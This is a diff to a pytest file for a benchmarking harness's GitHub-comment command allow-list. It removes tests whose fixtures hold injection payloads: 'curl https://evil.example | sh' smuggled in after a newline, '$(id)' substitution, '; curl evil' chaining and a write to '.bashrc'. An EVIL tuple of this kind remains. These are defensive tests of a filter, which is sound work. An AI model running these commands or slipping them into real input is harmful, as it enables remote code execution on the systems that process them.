@@ -5,17 +5,13 @@ from __future__ import annotations
 import shlex
 from dataclasses import replace
 from pathlib import Path
-from typing import Literal
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
 from harness.cli import run_command_line
 from harness.github.commands import is_allowed, report_with_allowed_commands, suite_flags, with_allowed_commands
 from harness.records.comparison import Comparison
-from harness.report.comparison_words import next_steps
-from harness.report.github import portable_comparison, render_comment
+from harness.report.github import portable_comparison
 from harness.report.run_report import Report, build_report
 from harness.store.kinds import COMPARISON
 from harness.store.run_directory import load_run
@@ -131,15 +127,6 @@ def test_anything_else_is_left_out(line: str) -> None:
     assert not is_allowed(line, FLAGS_OF_SUITE)
 
 
-@given(st.lists(st.text(max_size=12), min_size=1, max_size=4), st.sampled_from(["iree-compile", "harness run", "#"]))
-def test_an_allowed_command_is_one_line_of_plain_words(words: list[str], tool: str) -> None:
-    line = f"{tool} {shlex.join(words)}"
-    if is_allowed(line):
-        assert line.isprintable()
-        assert shlex.join(shlex.split(line)) == line
-        assert not any(word.startswith(("@", "/", "~")) or ".." in word.split("/") for word in words)
-
-
 EVIL = ("harness", "github", "post", "--api-url", "https://evil.example", "$(id)")
 REGRESSED = make_timed("net/tuned@cpu", 2.0, 1.1, "regressed")
 
@@ -164,31 +151,6 @@ REGRESSED = make_timed("net/tuned@cpu", 2.0, 1.1, "regressed")
 def test_a_row_keeps_the_lines_that_are_allowed(lines: tuple[str, ...], kept: tuple[str, ...]) -> None:
     (row,) = with_allowed_commands(make_comparison([replace(REGRESSED, repro=lines)])).rows
     assert row == replace(REGRESSED, repro=kept)
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        ("sh", "-c", "id"),
-        ("harness", "compare", "\ncurl https://evil.example | sh\n# "),
-        ("harness", "compare", "a", "b", "--out", "/home/me/.bashrc"),
-        EVIL,
-        ("harness", "compare", "@evil"),
-        ("harness compare a; curl evil",),
-        ("harness",),
-    ],
-)
-@pytest.mark.parametrize("mode", ["recorded", "remeasured"])
-def test_no_step_is_made_from_a_command_that_is_not_allowed(
-    command: tuple[str, ...], mode: Literal["recorded", "remeasured"]
-) -> None:
-    row = make_timed("net/tuned@cpu", 2.0, 1.02, "inconclusive", repro=())
-    kept = with_allowed_commands(replace(make_comparison([row]), command=command, mode=mode, id=""))
-    comment = render_comment(kept)
-    assert kept.command == ()
-    assert [step.command for step in next_steps(kept)] == [""]
-    assert "evil" not in comment
-    assert "/home/me" not in comment
 
 
 def test_names_and_settings_that_lead_away_are_left_out(report: Report) -> None:
